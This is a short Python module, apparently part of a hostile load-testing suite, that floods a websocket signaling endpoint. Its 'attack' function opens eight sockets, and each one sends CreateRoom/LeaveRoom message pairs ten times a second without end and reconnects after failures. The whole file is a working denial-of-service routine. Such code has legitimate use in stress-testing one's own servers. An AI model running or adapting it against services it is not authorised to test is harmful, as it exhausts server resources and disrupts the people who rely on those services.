"""Opens rooms and leaves them, on several sockets at once."""

import trio

from ..hostile.web import frame
from .target import Target, drain

SOCKETS, RATE = 8, 10
PAIR = frame(1, b'{"type":"CreateRoom"}') + frame(1, b'{"type":"LeaveRoom"}')


async def attack(target: Target) -> None:
    """`RATE` rooms a second on each socket."""
    async with trio.open_nursery() as nursery:
        for _ in range(SOCKETS):
            nursery.start_soon(_one, target)


async def _one(target: Target) -> None:
    while True:
        opened = await target.websocket("/ws/signaling")
        if opened is None:
            await trio.sleep(1)
            continue
        async with opened.stream, trio.open_nursery() as nursery:
            nursery.start_soon(drain, opened.stream)
            with target.counting():
                while True:
                    await opened.stream.send_all(PAIR)
                    target.tally["pairs"] += 1
                    await trio.sleep(1 / RATE)
            nursery.cancel_scope.cancel()
        await trio.sleep(0.2)
